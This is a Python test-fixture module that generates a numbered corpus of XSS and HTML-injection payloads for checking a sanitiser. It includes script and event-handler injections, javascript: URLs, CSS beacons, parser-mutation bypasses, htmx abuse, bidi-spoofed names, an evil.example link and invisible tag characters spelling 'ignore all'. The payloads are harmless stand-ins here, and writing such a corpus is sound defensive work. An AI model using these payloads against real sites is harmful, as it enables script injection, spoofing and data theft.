"""Hostile content of our own making: what markup, addresses, styles and names can try, as templates times carriers.

Each payload has a number. Run as script it says it in a dialog (`alert(17)`); whatever it loads is `/hit/17`, of a
sink that counts (`sink`, such as `http://127.0.0.1:5000`) or of the page's own site. Used by the browser tests, which
render all of them, and by the quick ones, which look at what the sanitiser leaves.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

_TOUCHES = """
<img src=x: onerror={js}>|<svg onload={js}></svg>|<svg/onload={js}//>|<body onload={js}>|<body onpageshow={js}>
<iframe onload={js}></iframe>|<input autofocus onfocus={js}>|<select autofocus onfocus={js}></select>
<textarea autofocus onfocus={js}></textarea>|<button autofocus onfocus={js}>x</button>|<a href=# autofocus onfocus={js}>x</a>
<p tabindex=0 autofocus onfocus={js}>x|<details open ontoggle={js}>x</details>|<video src=x: onerror={js}></video>
<video><source src=x: onerror={js}></video>|<audio src=x: onerror={js}></audio>|<object data=x: onerror={js}></object>
<embed src=x: onload={js}>|<link rel=stylesheet href=x: onerror={js}>|<script src=x: onerror={js}></script>
<style onload={js}>b{{}}</style>|<marquee onstart={js}>x</marquee>|<svg><animate onbegin={js} attributeName=x dur=1s></svg>
<svg><set onbegin={js} attributeName=x to=1></svg>|<svg><image href=x: onerror={js} /></svg>|<svg><desc><img src=x: onerror={js}></desc></svg>
<style>@keyframes k{{to{{left:0}}}}</style><p style="animation:k 1s" onanimationstart={js}>x
<style>@keyframes k{{to{{left:0}}}}</style><p style="animation:k .01s" onanimationend={js}>x
<div onmouseover={js} onpointerenter={js}>x</div>|<p onclick={js}>x|<form oninput={js}><input></form>|<p popover onbeforetoggle={js}>x
<math><mtext><img src=x: onerror={js}></mtext></math>|<table background=x: onload={js}><tr><td>x</table>|<input type=image src=x: onerror={js}>
<dialog open oncancel={js}>x</dialog>|<p onwheel={js} onscroll={js}>x|<frameset onload={js}>|<picture><img src=x: onerror={js}></picture>
"""
_SPELLINGS = (
    lambda markup: markup,
    lambda markup: re.sub(r"<(\w+)", lambda found: "<" + _mixed(found[1]), re.sub(r"\bon(\w+)=", lambda found: f"{_mixed('on' + found[1])}\n=\n", markup)),
    lambda markup: re.sub(r" (on\w+)=alert\((\d+)\)", r' / \1="&#97;l&#x65;rt&lpar;\2&rpar;"', markup),
    lambda markup: re.sub(r" (on\w+)=(alert\(\d+\))", r" x='>' \1=`${\2}`", markup),
)  # fmt: skip
_SCRIPTS = (
    "<script>{js}</script>", "<SCRIPT\n>{js}</SCRIPT\t>", "<script/x>{js}</script>", "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script src={u}></script>", "<script src={rel}></script>", "<script src=data:text/javascript,{js}></script>",
    "<script type=module>{js}</script>", "<script type=module src={u}></script>", "<svg><script>{js}</script></svg>",
    "<svg><script>&#97;lert({n})</script></svg>", "<svg><script href=data:text/javascript,{js} /></svg>",
    "<svg><script xlink:href={u} /></svg>", "<math><script>{js}</script></math>", "<script><!--\n{js}\n--></script>",
    "<noscript><p title='</noscript><script>{js}</script>'>", "<template><script>{js}</script></template>",
    "<iframe srcdoc='&lt;script&gt;{js}&lt;/script&gt;'></iframe>", "<iframe srcdoc='<img src={u}>'></iframe>",
    "<iframe src=javascript:{js}></iframe>", "<object data='data:text/html,<script>{js}</script>'></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={js}>'>", "<script>{js}", "<script {js}></script x>",
    '"><script>{js}</script>', "'><script>{js}</script>", "</title><script>{js}</script>", "</textarea><script>{js}</script>",
    "</style><script>{js}</script>", "--><script>{js}</script>", "]]><script>{js}</script>", "</script><script>{js}</script>",
    "</iframe><img src=x: onerror={js}>", "</noscript><img src=x: onerror={js}>", "</svg><img src=x: onerror={js}>",
    "&lt;script&gt;{js}&lt;/script&gt;", "%3Cscript%3E{js}%3C/script%3E", "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\ufe64script\ufe65{js}\ufe64/script\ufe65", "\uff1cscript\uff1e{js}\uff1c/script\uff1e", "{{{{7*7}}}}{{%print {js}%}}", "${{{js}}}",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{js}</script>", "<![CDATA[<script>{js}</script>]]>",
    "<!--[if true]><script>{js}</script><![endif]-->", "<mark><script>{js}</script></mark>", "</mark><img src=x: onerror={js}><mark>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java&#10;script:{js}", " \x01javascript:{js}", "&#106;avascript:{js}",
    "javascript&colon;{js}", "&#x6a;&#x61;&#x76;&#x61;script:{js}", "java&NewLine;script:{js}", "javascript://%0a{js}", "vbscript:msgbox({n})",
    "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCg5OTk5KTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>", "feed:javascript:{js}", "view-source:{u}", "blob:{u}",
    "file:///hit/{n}", "intent://hit/{n}#Intent;scheme=http;end", "ms-word:ofe|u|{u}",
)  # fmt: skip
_CARRIERS = (
    '<a href="{s}">x</a>', '<a href="{s}" target=_self autofocus>x</a>', '<form action="{s}"><button>x</button></form>',
    '<form><button formaction="{s}">x</button></form>', '<iframe src="{s}"></iframe>', '<object data="{s}"></object>', '<embed src="{s}">',
    '<svg><a xlink:href="{s}"><text y=9>x</text></a></svg>', '<math href="{s}"><mi>x</mi></math>', '<img src="{s}">', '<meta http-equiv=refresh content="0;url={s}">',
    '<map name=m><area href="{s}" shape=default></map>',
)  # fmt: skip
_LOADS = (
    '<img src="{r}">', "<img srcset='{r} 1x'>", '<picture><source srcset="{r}"><img></picture>', '<input type=image src="{r}">',
    '<video poster="{r}"></video>', '<video src="{r}" preload=auto></video>', '<audio src="{r}" preload=auto></audio>',
    '<video><source src="{r}"></video>', '<video src=x:><track default kind=captions src="{r}"></video>', '<iframe src="{r}"></iframe>',
    '<object data="{r}"></object>', '<embed src="{r}">', '<link rel=stylesheet href="{r}">', '<link rel=icon href="{r}">',
    '<link rel=preload as=image href="{r}">', '<link rel=prefetch href="{r}">', '<link rel=modulepreload href="{r}">',
    '<link rel=manifest href="{r}">', '<body background="{r}">', '<table background="{r}"><tr><td>x</table>', '<table><tr><td background="{r}">x</table>',
    '<svg><image href="{r}" width=9 height=9 /></svg>', '<svg><image xlink:href="{r}" width=9 height=9 /></svg>', '<svg><use href="{r}#a" /></svg>',
    '<svg><filter id=f><feImage href="{r}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>', '<meta http-equiv=refresh content="0; url={r}">',
    '<base href="{r}/"><img src=x.gif>', "<a href=# ping='{r}'>x</a>", '<img src=x: lowsrc="{r}" dynsrc="{r}" longdesc="{r}">', '<img width=1 height=1 style="display:block" src="{r}">',
    '<script src="{r}"></script>', '<frameset><frame src="{r}"></frameset>', '<portal src="{r}"></portal>', '<bgsound src="{r}">', '<image src="{r}">',
)  # fmt: skip
_STYLES = (
    "background:url({r})", "background-image:url('{r}')", "background:u\\72l({r})", "background:\\75\\72\\6c({r})", "list-style:url({r});display:list-item",
    "border-image:url({r}) 1;border:1px solid", "content:url({r})", "cursor:url({r}),auto", "background:image-set('{r}' 1x)", "background:-webkit-image-set(url({r}) 1x)",
    "mask:url({r}#a)", "filter:url({r}#a)", "shape-outside:url({r});float:left", "background:/**/url(/**/{r})", "color:red;background:url({r}", "--a:url({r});background:var(--a)",
    "behavior:url({r})", "-moz-binding:url({r})", "width:expression(alert({n}))", "position:fixed;inset:0;z-index:9999;background:url({r})",
    "background:cross-fade(url({r}),url({r}),50%)", "font:1px/1 x;src:url({r})",
)  # fmt: skip
_SHEETS = (
    "@import url({r});", "@import '{r}';", "@\\69mport '{r}';", "b{{background:url({r})}}", "*{{background:url({r})}}", "body::before{{content:url({r})}}",
    "@font-face{{font-family:z;src:url({r})}}*{{font-family:z}}", "input[value^=a]{{background:url({r})}}p{{background:url({r})}}",
    "@media screen{{p{{background:url({r})}}}}", "</style><img src=x: onerror=alert({n})>", "x{{}}</style><script>alert({n})</script>", "@namespace url({r});",
)  # fmt: skip
_MUTATIONS = (
    '<svg></p><style><a id="</style><img src=x: onerror={js}>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={js}&gt;">',
    '<noscript><p title="</noscript><img src=x: onerror={js}>">', '<svg><style><img title="</style><img src=x: onerror={js}>">',
    "<math><annotation-xml encoding=text/html><style><img src=x: onerror={js}></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={js}>", "<svg><foreignObject><p><style><!--</style><img src=x: onerror={js}>--></svg>",
    "<textarea><img title='</textarea><img src=x: onerror={js}>'>", "<title><a title='</title><img src=x: onerror={js}>'>", "<xmp><p title='</xmp><img src=x: onerror={js}>'>",
    "<noembed><p title='</noembed><img src=x: onerror={js}>'>", "<noframes><p title='</noframes><img src=x: onerror={js}>'>", "<iframe><p title='</iframe><img src=x: onerror={js}>'>",
    "<plaintext><img src=x: onerror={js}>", "<listing>\n<img src=x: onerror={js}></listing>", "<!--><img src=x: onerror={js}>-->", "<!---!><img src=x: onerror={js}>",
    "<!-- --!><img src=x: onerror={js}>", "<![><img src=x: onerror={js}>]]>", "<?><img src=x: onerror={js}>?>", "</ p><img src=x: onerror={js}>", "<svg><![CDATA[><img src=x: onerror={js}>]]></svg>",
    "<select><template><img src=x: onerror={js}></template></select>", "<select><iframe></select><img src=x: onerror={js}>", "<table><tr><form><img src=x: onerror={js}></table>",
    "<p><svg><title><p><style></title></style></p><img src=x: onerror={js}>", "<svg><p><title><template><style></template></style></title><img src=x: onerror={js}>",
    "<math><mi//xlink:href='data:x,<script>{js}</script>'>", "<svg><animate attributeName=href values=javascript:{js} /><a id=q><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href to=javascript:{js} begin=0s fill=freeze /><text y=9>x</text></a></svg>", "<a href='x' title='\"><img src=x: onerror={js}>'>x</a>",
    "<img alt='`><img src=x: onerror={js}>'>", "<img src='x:`' title='` onerror={js}'>", '<img src="x:" title="a" / onerror={js}>', "<img src=x:\x0conerror={js}>",
    "<a title=\"&lt;img src=x: onerror={js}&gt;\" data-remote-src='{u}'>x</a>", "<img data-remote-src='{u}' src='x-remote:{u}'>", '<img src=cid:a"onerror={js}//>', "<img src='cid:&quot; onerror={js} x=&quot;'>",
    "<b><p title='</b><img src=x: onerror={js}>'>", "<br><br/><svg><b><img src=x: onerror={js}></b></svg>", "<font face='x\" onerror={js}'><img src=x:></font>",
    "<ruby><rtc><style></ruby><img src=x: onerror={js}>", "<dl><dt><math><dd><style><img src=x: onerror={js}></dl>", "<col><p><img src=x: onerror={js}>",
)  # fmt: skip
_ATTRIBUTES = (
    '<div hx-get="{p}" hx-trigger="load">x</div>', '<div data-hx-get="{p}" data-hx-trigger="load">x</div>', '<div hx-post="{p}" hx-trigger="revealed">x</div>',
    '<div hx-on::load="{js}">x</div>', '<div hx-on:click="{js}" hx-on-htmx-load="{js}">x</div>', '<div hx-on--after-init="{js}">x</div>', '<div hx-trigger="load[{js}]" hx-get="{p}">x</div>',
    "<div hx-vals='js:{{a:{js}}}' hx-get='{p}' hx-trigger=load>x</div>", '<div hx-ext="sse" sse-connect="{p}">x</div>', '<div hx-ext="ws" ws-connect="{p}">x</div>', '<div hx-swap-oob="true" id="rail">x</div>',
    '<div hx-get="{u}" hx-trigger="every 1s" hx-target="body">x</div>', '<a hx-boost="true" href="{p}" autofocus>x</a>', '<div hx-action="{p}" hx-method="get" hx-trigger="load">x</div>',
    '<div hx-headers="js:{{a:{js}}}" hx-delete="{p}" hx-trigger="load">x</div>', '<template hx><div hx-get="{p}" hx-trigger=load></div></template>', '<hx-partial hx-target="body">{js}</hx-partial>',
    '<meta name="htmx-config" content=\'{{"selfRequestsOnly":false}}\'><div hx-get="{u}" hx-trigger=load>x</div>',
    '<form id=csrf action="{u}"><input name=attributes><input name=nodes></form>', "<img name=body><img name=getElementById>", "<a id=thread></a><a id=rows></a><a id=rail href='{u}'></a>",
    '<meta name="csrf" content="stolen">', '<button data-cmd="take" accesskey=x formaction="{u}" form=reply>x</button>', "<input type=password name=password autocomplete=current-password>",
    '<div class="menu" popover=manual style="position:fixed;inset:0">x</div>', "<dialog open id=palette><form method=dialog><input></form></dialog>", "<select data-submit><option>x</select>",
    "<a href='{u}' download>x</a>", '<form action="{u}" method=post><input name=a autofocus><button>x</button></form>', '<isindex action="{u}">', '<p is="x-evil" slot=a part=b>x', "<base href='{u}/' target=_top>",
    "<base href='javascript:{js}//'>", "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='{u}'>", "<meta http-equiv=set-cookie content='a=b'>", "<meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-",
)  # fmt: skip
# What stands in names, subjects, handles and file names: turns the reading direction, hides, imitates, breaks out.
_MARKS = ("\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c", "\u200b", "\u2060", "\ufeff", "\u00ad", "\u180e")  # fmt: skip
_TURNED = (
    "{m}gnp.exe",
    "Lumaca{m} Care",
    "ordine {m}1744{m} pagato",
    "https://evil.example/{m}fdp.html",
    "<{m}script>{js}</script>",
)
_TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all")  # invisible letters of the tags block
_NAMES = (
    f"Anna{_TAGS}", "Anna\u0301\u0302\u0303\u0304\u0305" * 20, "=HYPERLINK({u})", "@admin\u200badmin", "Ascolto: sessione scaduta {u}", "[clic]({u})", "![x]({u})", "<bdo dir=rtl>{u}</bdo>",
    "a\\u003cimg src=x: onerror={js}\\u003e", "&#60;img src=x: onerror={js}&#62;", "\\x3cscript\\x3e{js}\\x3c/script\\x3e", "{{{{constructor.constructor('{js}')()}}}}", "#{{{js}}}", "<%= {js} %>", "javascript:{js}", "data:text/html,<script>{js}</script>",
    "' autofocus onfocus={js} x='", '" autofocus onfocus={js} x="', "` autofocus onfocus={js}", "../../hit/{n}", "..\\..\\hit\\{n}.html", "con.svg", "x.html;.png", "x.png\u2028.html",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    """One attack. `family` says what it tries."""

    number: int
    family: str
    markup: str

    @property
    def fits_a_line(self) -> bool:
        """Whether it can stand in a name, a subject or a handle."""
        return len(self.markup) <= 180 and all(ord(letter) >= 32 for letter in self.markup)


def corpus(sink: str) -> list[Payload]:
    """Every markup payload, in one order, always under the same number."""
    return list(_numbered(_markup(), sink, 1000))


def lines(sink: str) -> list[Payload]:
    """What can stand in one line: names of its own, and the markup that is short enough."""
    own = [("turned", text.replace("{m}", mark)) for text, mark in product(_TURNED, _MARKS)]
    own += [("name", text) for text in _NAMES]
    return [*_numbered(own, sink, 5000), *(one for one in corpus(sink) if one.fits_a_line)]


def _markup() -> Iterator[tuple[str, str]]:
    for text in _TOUCHES.strip().replace("\n", "|").split("|"):
        yield "event", text
    yield from (("script", text) for text in _SCRIPTS)
    yield from (("address", carrier.replace("{s}", scheme)) for carrier, scheme in product(_CARRIERS, _SCHEMES))
    yield from (("load", carrier.replace("{r}", way)) for carrier, way in product(_LOADS, ("{u}", "{rel}", "{odd}")))
    for style, way in product(_STYLES, ("{u}", "{rel}")):
        yield "style", f'<p style="{style.replace("{r}", way)}">x</p>'
    yield from (("sheet", f"<style>{sheet.replace('{r}', '{u}')}</style><p>x</p>") for sheet in _SHEETS)
    yield from (("mutation", text) for text in _MUTATIONS)
    yield from (("attribute", text) for text in _ATTRIBUTES)


def _numbered(found: Iterator[tuple[str, str]] | list[tuple[str, str]], sink: str, first: int) -> Iterator[Payload]:
    number = first
    for family, text in found:
        for spell in _SPELLINGS if family == "event" else _SPELLINGS[:1]:
            url = f"{sink}/hit/{number}"
            ways = {
                "u": url,
                "rel": url.partition(":")[2],
                "odd": f" HtT\tP{url.removeprefix('http')}",
                "p": f"/hit/{number}",
            }
            yield Payload(number, family, spell(text.format(js=f"alert({number})", n=number, **ways)))
            number += 1


def _mixed(word: str) -> str:
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(word))
